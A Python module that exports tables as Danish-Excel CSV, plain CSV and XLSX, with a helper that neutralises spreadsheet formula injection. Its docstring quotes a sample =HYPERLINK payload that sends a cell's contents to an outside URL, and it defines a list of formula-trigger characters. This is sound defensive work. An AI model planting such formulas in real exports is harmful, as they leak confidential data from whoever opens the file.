"""File formats for every table a user downloads: CSV for Danish Excel, plain CSV and XLSX.

Every CSV and XLSX the product writes (pages and command line) goes through these writers, so
one helper, :func:`neutralise`, keeps text that a spreadsheet would run as a formula inert
(OWASP "CSV injection"): a department named ``=HYPERLINK("http://…?v="&I2;"grå")`` must not be
able to send cells of the confidential list away when someone clicks it.
"""

from __future__ import annotations

import io

import pandas as pd

#: Characters that make Excel, LibreOffice or Google Sheets read a cell as a formula (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def neutralise(value: object) -> object:
    """Text starting with a formula trigger gets a leading apostrophe; anything else is unchanged.

    Numbers stay numbers (a negative float is not text and is written as a number). The
    apostrophe is the spreadsheet convention for "this is text"; importers strip it again
    (:func:`restore_neutralised`), so an exported register re-imports unchanged.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def restore_neutralised(value: object) -> object:
    """The inverse of :func:`neutralise`, for files coming back in."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_TRIGGERS):
        return value[1:]
    return value


def neutralised(table: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``table`` with every text cell and column name passed through :func:`neutralise`."""
    out = table.copy()
    out.columns = [neutralise(c) if isinstance(c, str) else c for c in out.columns]
    for i in range(out.shape[1]):
        column = out.iloc[:, i]
        if column.dtype == object or isinstance(column.dtype, pd.StringDtype):
            out.isetitem(i, column.map(neutralise))
    return out


def to_csv_danish(table: pd.DataFrame, *, float_format: str | None = None) -> bytes:
    """CSV as Danish Excel opens it: semicolons, decimal comma, UTF-8 with BOM, CRLF."""
    text = neutralised(table).to_csv(
        sep=";", decimal=",", index=False, lineterminator="\r\n", float_format=float_format
    )
    return text.encode("utf-8-sig")


def to_csv_plain(table: pd.DataFrame) -> bytes:
    """Plain CSV: commas, decimal point, UTF-8 without BOM."""
    return neutralised(table).to_csv(index=False).encode("utf-8")


def to_xlsx(sheets: dict[str, pd.DataFrame]) -> bytes:
    """An XLSX workbook with one sheet per entry; column widths fitted to the content."""
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
        for name, table in sheets.items():
            table = neutralised(table)
            table.to_excel(writer, sheet_name=name[:31], index=False)
            sheet = writer.sheets[name[:31]]
            sheet.freeze_panes = "A2"
            for i, column in enumerate(table.columns, start=1):
                width = max([len(str(column))] + [len(str(v)) for v in table[column].head(200)])
                sheet.column_dimensions[sheet.cell(row=1, column=i).column_letter].width = min(60, width + 2)
    return buffer.getvalue()
